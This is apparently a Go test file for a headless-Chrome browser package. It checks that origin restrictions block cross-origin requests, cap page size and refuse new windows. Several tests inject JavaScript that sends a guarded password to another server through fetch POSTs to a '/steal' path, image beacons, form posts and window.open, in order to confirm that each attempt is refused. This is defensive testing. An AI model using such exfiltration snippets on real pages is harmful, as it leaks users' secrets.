package browser_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/rosteron/rosteron/browser"
	"github.com/rosteron/rosteron/internal/chrometest"
)

func TestOrigin(t *testing.T) {
	for raw, want := range map[string]string{
		"https://R.Example.COM:443/x?y": "https://r.example.com",
		"http://r.example.com:80/":      "http://r.example.com",
		"http://127.0.0.1:8080/a":       "http://127.0.0.1:8080",
		"https://[::1]:8443/":           "https://[::1]:8443",
		"https://[::1]/":                "https://[::1]",
	} {
		u, err := url.Parse(raw)
		require.NoError(t, err)
		assert.Equal(t, want, browser.Origin(u), raw)
	}
}

// A tab with AllowOrigins sends no request of any kind to another
// origin; only a main-frame document, or a request carrying the secret
// GuardSecret guards, fails the operation under way.
func TestAllowOriginsRefusesOtherOrigins(t *testing.T) {
	var mu sync.Mutex
	var seen []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		seen = append(seen, r.Method+" "+r.URL.Path+" "+string(body))
		mu.Unlock()
		if r.URL.Path == "/style.css" {
			w.Header().Set("Content-Type", "text/css")
			io.WriteString(w, "body { color: red }")
			return
		}
		io.WriteString(w, "<p>elsewhere</p>")
	}))
	defer other.Close()
	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/away":
			http.Redirect(w, r, other.URL+"/landing", http.StatusFound)
		default:
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, `<link rel="stylesheet" href="`+other.URL+`/style.css"><p>home</p>`)
		}
	}))
	defer home.Close()

	b := chrome.Get(t)
	tab, err := b.NewTab(ctxT(t), browser.AllowOrigins(home.URL))
	require.NoError(t, err)
	defer tab.Close()

	resp, err := tab.Navigate(ctxT(t), home.URL+"/")
	require.NoError(t, err)
	assert.Equal(t, 200, resp.Status, "a refused style sheet fails nothing")
	assert.Eventually(t, func() bool { return len(tab.Refused()) == 1 }, 10*time.Second, 20*time.Millisecond, "%v", tab.Refused())
	assert.Equal(t, "Stylesheet", tab.Refused()[0].Type)
	assert.False(t, tab.Refused()[0].Fatal)

	_, err = tab.Navigate(ctxT(t), home.URL+"/away")
	var oe *browser.OriginError
	require.ErrorAs(t, err, &oe)
	assert.ErrorIs(t, err, browser.ErrOtherOrigin)
	assert.Equal(t, other.URL+"/…", oe.URL, "only the origin: the path may hold what was typed")
	assert.Contains(t, err.Error(), strings.TrimPrefix(home.URL, "http://"))
	assert.NotErrorIs(t, err, browser.ErrPageLoad, "not a network failure, so never retried")

	require.Len(t, tab.Refused(), 2)
	assert.True(t, tab.Refused()[1].Fatal)
	_, err = browser.Eval[any](ctxT(t), tab, `fetch(`+"`"+other.URL+"/steal?pw=secret`"+`, {method: 'POST', mode: 'no-cors', body: 'pw=secret'}).catch(() => 0)`)
	require.NoError(t, err, "a post elsewhere is refused silently")
	assert.Eventually(t, func() bool { return len(tab.Refused()) == 3 }, 10*time.Second, 20*time.Millisecond)
	assert.False(t, tab.Refused()[2].Fatal)

	// While GuardSecret guards what the post carries, it ends the
	// operation.
	// A post that does not carry it (a page's beacon) is still silent,
	// and so is a GET that does (an image's, say): refused all the same.
	tab.GuardSecret("s3cret pass&word")
	_, err = browser.Eval[any](ctxT(t), tab, `fetch(`+"`"+other.URL+"/beacon`"+`, {method: 'POST', mode: 'no-cors', body: 'hello'}).catch(() => 0)`)
	require.NoError(t, err)
	assert.Eventually(t, func() bool { return len(tab.Refused()) == 4 }, 10*time.Second, 20*time.Millisecond)
	assert.False(t, tab.Refused()[3].Fatal)
	_, err = browser.Eval[any](ctxT(t), tab, `new Image().src = `+"`"+other.URL+"/pixel?p=${encodeURIComponent('s3cret pass&word')}`")
	require.NoError(t, err)
	assert.Eventually(t, func() bool { return len(tab.Refused()) == 5 }, 10*time.Second, 20*time.Millisecond)
	assert.False(t, tab.Refused()[4].Fatal)
	for i, js := range []string{
		`fetch(` + "`" + other.URL + "/steal`" + `, {method: 'POST', mode: 'no-cors', body: 's3cret pass&word'}).catch(() => 0)`,
		`fetch(` + "`" + other.URL + "/steal`" + `, {method: 'POST', mode: 'no-cors', body: new URLSearchParams({p: 's3cret pass&word'})}).catch(() => 0)`,
		`fetch(` + "`" + other.URL + "/steal?p=${encodeURIComponent('s3cret pass&word')}`" + `, {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0)`,
	} {
		_, err = browser.Eval[any](ctxT(t), tab, js)
		if err != nil {
			require.ErrorIs(t, err, browser.ErrOtherOrigin)
		}
		assert.Eventually(t, func() bool { return len(tab.Refused()) == 6+i }, 10*time.Second, 20*time.Millisecond)
		assert.True(t, tab.Refused()[5+i].Fatal, js)
		assert.Equal(t, other.URL+"/…", tab.Refused()[5+i].URL, "the path and query, which may hold what was typed, are left out")
	}

	mu.Lock()
	defer mu.Unlock()
	assert.Empty(t, seen, "nothing went to the other origin")
}

// A tab with MaxPageSize reads no page larger than its cap, whether its
// size is declared or not, by Fetch or by navigating.
func TestMaxPageSize(t *testing.T) {
	const limit = 256 << 10
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		size := limit - 10
		if r.URL.Path == "/big" {
			size = limit + 10
		}
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Query().Has("declared") {
			w.Header().Set("Content-Length", strconv.Itoa(size))
		}
		for size > 0 {
			n := min(size, 32<<10)
			io.WriteString(w, strings.Repeat("x", n))
			size -= n
			w.(http.Flusher).Flush()
		}
	}))
	defer ts.Close()
	b := chrome.Get(t)
	tab, err := b.NewTab(ctxT(t), browser.MaxPageSize(limit))
	require.NoError(t, err)
	defer tab.Close()

	for _, q := range []string{"", "?declared"} {
		_, err = tab.Navigate(ctxT(t), ts.URL+"/big"+q)
		assert.ErrorIs(t, err, browser.ErrPageTooLarge, q)
		assert.ErrorContains(t, err, "larger than the 262144 bytes cap")

		_, err = tab.Navigate(ctxT(t), ts.URL+"/small"+q)
		require.NoError(t, err, q)
		doc, err := tab.Fetch(ctxT(t), ts.URL+"/small"+q)
		require.NoError(t, err, q)
		assert.Len(t, doc.Body, limit-10)
		_, err = tab.Fetch(ctxT(t), ts.URL+"/big"+q)
		assert.ErrorIs(t, err, browser.ErrPageTooLarge, q)
	}
}

// A launched Chrome opens no new window, and a tab with AllowOrigins
// records one that a page tried to open elsewhere: silently, or while
// GuardSecret guards a secret, as the operation's error.
func TestAllowOriginsNewWindows(t *testing.T) {
	if chrometest.Remote() != "" {
		t.Skip("a remote Chrome may lack --block-new-web-contents")
	}
	var mu sync.Mutex
	var seen []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Method+" "+r.URL.String())
		mu.Unlock()
	}))
	defer other.Close()
	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<form method="post" action="`+other.URL+`/form" target="_blank"><input name="p" value="secret"></form>`)
	}))
	defer home.Close()
	b := chrome.Get(t)
	tab, err := b.NewTab(ctxT(t), browser.AllowOrigins(home.URL))
	require.NoError(t, err)
	defer tab.Close()
	_, err = tab.Navigate(ctxT(t), home.URL+"/")
	require.NoError(t, err)

	opened, err := browser.Eval[bool](ctxT(t), tab, `window.open('`+other.URL+`/open?p=secret') !== null`)
	require.NoError(t, err, "silent while no secret is guarded")
	assert.False(t, opened, "Chrome refused the window")
	assert.Eventually(t, func() bool { return len(tab.Refused()) == 1 }, 10*time.Second, 20*time.Millisecond)
	assert.Equal(t, "Window", tab.Refused()[0].Type)
	assert.Equal(t, other.URL+"/…", tab.Refused()[0].URL)
	assert.False(t, tab.Refused()[0].Fatal)

	tab.GuardSecret("secret")
	_, err = browser.Eval[any](ctxT(t), tab, `document.querySelector('form').submit()`)
	if err != nil {
		require.ErrorIs(t, err, browser.ErrOtherOrigin)
	}
	assert.Eventually(t, func() bool { return len(tab.Refused()) == 2 }, 10*time.Second, 20*time.Millisecond)
	assert.True(t, tab.Refused()[1].Fatal)
	assert.Contains(t, tab.Refused()[1].Error(), "refused a new window to "+other.URL+"/… (host ")

	mu.Lock()
	defer mu.Unlock()
	assert.Empty(t, seen, "nothing went to the other origin")
}
